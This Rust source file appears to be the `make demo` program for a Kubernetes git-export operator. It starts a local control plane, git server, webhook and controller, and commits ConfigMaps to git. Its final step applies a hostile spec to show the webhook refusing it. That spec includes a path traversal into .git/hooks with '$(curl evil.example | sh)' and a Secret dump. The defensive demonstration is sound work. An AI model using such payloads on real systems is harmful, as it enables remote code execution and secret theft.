//! The demo behind `make demo`: the whole product on the embedded local control plane.
//!
//! Starts etcd + kube-apiserver, a git server, the admission webhook and the controller (the
//! real binaries), installs the CRDs and a policy, applies a GitCommit exporting a ConfigMap
//! and an append-mode report, changes the ConfigMap, and shows what happened, with the
//! `kubectl-gco` plugin where it reads better than raw kubectl (get, reconcile --wait, trace,
//! history); then shows a hostile spec being refused. With `KEEP=1` everything keeps
//! running until Ctrl-C.

use std::{
    fs,
    path::{Path, PathBuf},
    process::Command,
    time::Duration,
};

use anyhow::{Context as _, Result, bail};
use gco_api::{GitCommit, PullRequest};
use gco_tests::{
    controller::{ControllerProcess, controller_binary},
    forge::{self, Gitea},
    git::{GitDaemon, bare_repo, git},
    procs::{self, free_port, wait_for_port},
    testenv::{ControlPlane, ensure_namespace, install_crds},
    webhook::register_at,
};
use kube::{Api, Client};
use serde_json::{Value, json};
use tokio::signal::unix::{SignalKind, signal};

const NAMESPACE: &str = "demo";

#[tokio::main(flavor = "current_thread")]
async fn main() -> Result<()> {
    step("Starting etcd and kube-apiserver (built from source) on 127.0.0.1");
    let plane = ControlPlane::start()?;
    let client = plane.client().await?;
    install_crds(&client).await?;
    ensure_namespace(&client, NAMESPACE).await?;
    let work = plane.scratch_dir("demo")?;
    kubectl(&plane, &["version"])?;

    step("Starting a git server (git daemon) with an empty repository platform-config.git");
    let repos = work.join("repos");
    let repo = bare_repo(&repos, "platform-config.git");
    let daemon = GitDaemon::start(&repos);
    let url = daemon.url("platform-config.git");
    println!("  {url}");

    step("Starting the admission webhook (gco-webhook) and registering it with the apiserver");
    let _webhook = start_webhook(&plane, &client, &work).await?;
    println!(
        "  every GitCommit, PullRequest and GitExportPolicy now goes through /mutate and /validate"
    );

    step("A cluster admin's GitExportPolicy: this git server, two path prefixes, a default author");
    let policy = json!({
        "apiVersion": "gco.galos.one/v1", "kind": "GitExportPolicy",
        "metadata": { "name": "demo-policy" },
        "spec": {
            "allowedSchemes": ["git", "http"],
            "repositories": [
                { "url": "git://127.0.0.1:*/*", "branches": ["main"] },
                { "url": "http://127.0.0.1:*/**", "branches": ["main", "gco/*"] }
            ],
            "paths": { "allowedPrefixes": ["clusters/", "reports/"] },
            "defaults": { "author": "Demo Cluster <demo@example.com>" }
        }
    });
    apply_yaml(&plane, &policy)?;

    step("Starting the controller (gco-controller run)");
    let mut controller = ControllerProcess::start(
        &plane,
        &work,
        "controller",
        &["--watch-namespace", NAMESPACE],
    )?;

    step("Applying a ConfigMap, a GitCommit that exports it, and an append-mode drift report");
    let configmap = json!({ "apiVersion": "v1", "kind": "ConfigMap",
        "metadata": { "name": "app-config", "namespace": NAMESPACE },
        "data": { "app.properties": "color=blue\nreplicas=3\n", "feature-flags": "search=on\n" } });
    apply_yaml(&plane, &configmap)?;
    apply_yaml(
        &plane,
        &json!({
            "apiVersion": "gco.galos.one/v1", "kind": "GitCommit",
            "metadata": { "name": "app-config-sync", "namespace": NAMESPACE },
            "spec": {
                "repository": { "url": url },
                "commit": { "message": "Sync app-config - $(date)" },
                "resourceReferences": [
                    { "apiVersion": "v1", "kind": "ConfigMap", "name": "app-config",
                      "output": { "path": "clusters/demo/app-config.yaml" } },
                    { "apiVersion": "v1", "kind": "ConfigMap", "name": "app-config", "strategy": "fields",
                      "output": { "path": "clusters/demo/app-config/" } }
                ]
            }
        }),
    )?;
    apply_yaml(
        &plane,
        &json!({
            "apiVersion": "gco.galos.one/v1", "kind": "GitCommit",
            "metadata": { "name": "drift-report", "namespace": NAMESPACE },
            "spec": {
                "repository": { "url": url },
                "commit": { "message": "Drift report - $(date +%Y-%m-%d)" },
                "writeMode": "append",
                "files": [{ "path": "reports/drift-$(date +%Y%m).log",
                            "content": "$(date +%Y-%m-%dT%H:%M:%SZ) no drift in production-east-1\n" }]
            }
        }),
    )?;
    wait_ready(&client, "app-config-sync", &controller).await?;
    wait_ready(&client, "drift-report", &controller).await?;
    gco(&plane, &["get", "gitcommits", "-n", NAMESPACE])?;

    step("Changing the ConfigMap: the controller commits the change by itself");
    let before = tip(&repo);
    let change = json!({ "apiVersion": "v1", "kind": "ConfigMap", "metadata": { "name": "app-config", "namespace": NAMESPACE },
        "data": { "app.properties": "color=green\nreplicas=5\n", "feature-flags": "search=on\n" } });
    apply_yaml(&plane, &change)?;
    wait_for_new_commit(&repo, &before, &controller).await?;
    wait_ready(&client, "app-config-sync", &controller).await?;
    gco(&plane, &["get", "-n", NAMESPACE])?;

    step(
        "Asking for a run of the drift report now, and following it (kubectl gco reconcile --wait)",
    );
    gco(
        &plane,
        &[
            "reconcile",
            "gitcommit/drift-report",
            "--wait",
            "-n",
            NAMESPACE,
        ],
    )?;

    pull_request(&plane, &client, &work).await?;

    step("What reached the repository (git log --stat)");
    print!(
        "{}",
        indent(&git(
            &repo,
            &["log", "--stat", "--format=%h %an: %s%n%b", "main"]
        ))
    );
    step("clusters/demo/app-config/app.properties on main");
    print!(
        "{}",
        indent(&git(
            &repo,
            &["show", "main:clusters/demo/app-config/app.properties"]
        ))
    );

    step("Which object and run wrote that file (kubectl gco trace, from the commit trailers)");
    // The event of the second commit is published just after the status that said Ready.
    tokio::time::sleep(Duration::from_secs(1)).await;
    gco(
        &plane,
        &[
            "trace",
            "clusters/demo/app-config/app.properties",
            "--repo",
            &url,
        ],
    )?;

    step("The GitCommit's last runs (kubectl gco history; trace showed its events)");
    gco(
        &plane,
        &["history", "gitcommit/app-config-sync", "-n", NAMESPACE],
    )?;

    step("A hostile spec is refused at apply time, with the field, the rule and the fix");
    let hostile = json!({
        "apiVersion": "gco.galos.one/v1", "kind": "GitCommit",
        "metadata": { "name": "exfiltrate", "namespace": NAMESPACE },
        "spec": {
            "repository": { "url": url.replace("git://", "git://attacker:secret@") },
            "files": [{ "path": "../../.git/hooks/post-checkout", "content": "$(curl evil.example | sh)" }],
            "resourceReferences": [{ "apiVersion": "v1", "kind": "Secret", "name": "db-password", "strategy": "dump",
                                     "output": { "path": "clusters/demo/db.yaml" } }]
        }
    });
    let refused = apply_yaml_expect_refusal(&plane, &hostile)?;
    print!("{}", indent(&refused));

    println!("\nDone: the controller, the webhook and the git engine did the work above.");
    if std::env::var("KEEP").as_deref() == Ok("1") {
        println!(
            "KEEP=1: still running. export KUBECONFIG={}  (repository: {url}); Ctrl-C stops it all.",
            plane.kubeconfig().display()
        );
        let mut interrupt = signal(SignalKind::interrupt())?;
        let mut terminate = signal(SignalKind::terminate())?;
        tokio::select! { _ = interrupt.recv() => {}, _ = terminate.recv() => {} }
    }
    controller.kill();
    Ok(())
}

/// The PullRequest part, against a real Gitea when `hack/forge.sh` could build one.
async fn pull_request(plane: &ControlPlane, client: &Client, work: &Path) -> Result<()> {
    step("Starting a forge (Gitea, built from source) with a repository gitops-apps");
    let gitea = match forge::binaries().and_then(|_| Gitea::start(&work.join("gitea"))) {
        Ok(gitea) => gitea,
        Err(error) => {
            println!("  no forge available ({error:#}): skipping the PullRequest");
            return Ok(());
        }
    };
    gitea.create_repo("gitops-apps")?;
    println!("  {}", gitea.url("gitops-apps"));
    apply_yaml(
        plane,
        &json!({ "apiVersion": "v1", "kind": "Secret",
        "metadata": { "name": "gitea-token", "namespace": NAMESPACE },
        "stringData": { "token": gitea.token } }),
    )?;

    step("A PullRequest that proposes the ConfigMap to the GitOps repository");
    apply_yaml(
        plane,
        &json!({
            "apiVersion": "gco.galos.one/v1", "kind": "PullRequest",
            "metadata": { "name": "app-config-to-gitops", "namespace": NAMESPACE },
            "spec": {
                "repository": { "url": gitea.url("gitops-apps"), "provider": "gitea" },
                "auth": { "secretName": "gitea-token" },
                "pullRequest": { "title": "Sync app-config from the demo cluster",
                                 "body": "Proposed by git-change-operator on $(date)." },
                "resourceReferences": [{ "apiVersion": "v1", "kind": "ConfigMap", "name": "app-config",
                                         "output": { "path": "clusters/demo/app-config.yaml" } }]
            }
        }),
    )?;
    let api: Api<PullRequest> = Api::namespaced(client.clone(), NAMESPACE);
    for _ in 0..240 {
        let pr = api.get("app-config-to-gitops").await?;
        let status = pr.status.unwrap_or_default();
        if let Some(url) = status.pull_request_url.filter(|_| {
            status
                .export
                .conditions
                .iter()
                .any(|c| c.type_ == "Ready" && c.status == "True")
        }) {
            gco(plane, &["get", "pullrequests", "-n", NAMESPACE])?;
            println!(
                "  the pull request: {url} (head branch {})",
                status.head_branch.unwrap_or_default()
            );
            return Ok(());
        }
        tokio::time::sleep(Duration::from_millis(250)).await;
    }
    bail!("the PullRequest did not become Ready within 60 s");
}

fn step(text: &str) {
    println!("\n\x1b[1m==> {text}\x1b[0m");
}

fn indent(text: &str) -> String {
    text.lines().map(|l| format!("  {l}\n")).collect()
}

fn kubectl(plane: &ControlPlane, args: &[&str]) -> Result<()> {
    let output = plane.kubectl().args(args).output()?;
    print!("{}", indent(&String::from_utf8_lossy(&output.stdout)));
    if !output.status.success() {
        bail!(
            "kubectl {args:?}: {}",
            String::from_utf8_lossy(&output.stderr)
        );
    }
    Ok(())
}

/// `kubectl gco ARGS` (the `kubectl-gco` plugin built next to this binary), printing its
/// progress (stderr) and its result (stdout) as a person would see them.
fn gco(plane: &ControlPlane, args: &[&str]) -> Result<()> {
    let binary = procs::sibling_binary("kubectl-gco", "gco-cli")?;
    println!("  $ kubectl gco {}", args.join(" "));
    let output = Command::new(binary)
        .arg("--kubeconfig")
        .arg(plane.kubeconfig())
        .args(args)
        .output()
        .context("run kubectl-gco")?;
    print!("{}", indent(&String::from_utf8_lossy(&output.stderr)));
    print!("{}", indent(&String::from_utf8_lossy(&output.stdout)));
    if !output.status.success() {
        bail!("kubectl gco {args:?} failed with {}", output.status);
    }
    Ok(())
}

fn write_manifest(plane: &ControlPlane, object: &Value) -> Result<PathBuf> {
    let name = object["metadata"]["name"].as_str().unwrap_or("object");
    let path = plane
        .scratch_dir("demo-manifests")?
        .join(format!("{name}.yaml"));
    fs::write(&path, serde_saphyr::to_string(object)?)?;
    Ok(path)
}

/// `kubectl apply -f`, as a person would, printing what kubectl says.
fn apply_yaml(plane: &ControlPlane, object: &Value) -> Result<()> {
    let path = write_manifest(plane, object)?;
    kubectl(
        plane,
        &[
            "apply",
            "--server-side",
            "-f",
            path.to_str().context("utf-8 path")?,
        ],
    )
}

fn apply_yaml_expect_refusal(plane: &ControlPlane, object: &Value) -> Result<String> {
    let path = write_manifest(plane, object)?;
    println!("{}", indent(&fs::read_to_string(&path)?));
    let output = plane
        .kubectl()
        .args(["apply", "-f", path.to_str().context("utf-8 path")?])
        .output()?;
    if output.status.success() {
        bail!("the hostile spec was accepted");
    }
    Ok(String::from_utf8_lossy(&output.stderr).into_owned())
}

async fn wait_ready(client: &Client, name: &str, controller: &ControllerProcess) -> Result<()> {
    let api: Api<GitCommit> = Api::namespaced(client.clone(), NAMESPACE);
    for _ in 0..240 {
        let object = api.get(name).await?;
        let status = object.status.unwrap_or_default();
        let ready = status
            .conditions
            .iter()
            .any(|c| c.type_ == "Ready" && c.status == "True");
        if ready && status.observed_generation == object.metadata.generation {
            return Ok(());
        }
        tokio::time::sleep(Duration::from_millis(250)).await;
    }
    bail!(
        "GitCommit {name} not Ready after 60 s; controller log:\n{}",
        controller.log()
    )
}

fn tip(repo: &Path) -> String {
    git(repo, &["rev-parse", "--verify", "--quiet", "main"])
        .trim()
        .to_owned()
}

async fn wait_for_new_commit(
    repo: &Path,
    before: &str,
    controller: &ControllerProcess,
) -> Result<()> {
    for _ in 0..240 {
        if tip(repo) != before {
            return Ok(());
        }
        tokio::time::sleep(Duration::from_millis(250)).await;
    }
    bail!(
        "no new commit after 60 s; controller log:\n{}",
        controller.log()
    )
}

/// The real `gco-webhook` binary, serving a certificate from the control plane's CA.
async fn start_webhook(
    plane: &ControlPlane,
    client: &Client,
    work: &Path,
) -> Result<procs::Guarded> {
    let certs = work.join("webhook-certs");
    fs::create_dir_all(&certs)?;
    let serving = plane.ca().server(&["127.0.0.1", "localhost"])?;
    fs::write(certs.join("tls.crt"), &serving.cert_pem)?;
    fs::write(certs.join("tls.key"), &serving.key_pem)?;
    let binary = controller_binary()?.with_file_name("gco-webhook");
    let port = free_port();
    let mut command = Command::new(binary);
    command
        .env("KUBECONFIG", plane.kubeconfig())
        .args(["--listen", &format!("127.0.0.1:{port}")])
        .args([
            "--tls-cert-file",
            certs.join("tls.crt").to_str().context("utf-8 path")?,
        ])
        .args([
            "--tls-key-file",
            certs.join("tls.key").to_str().context("utf-8 path")?,
        ]);
    let webhook = procs::spawn_logged(&command, Some(&work.join("webhook.log")))?;
    wait_for_port(port, "gco-webhook");
    register_at(
        client,
        &format!("https://127.0.0.1:{port}"),
        &plane.ca().cert_pem(),
    )
    .await?;
    Ok(webhook)
}
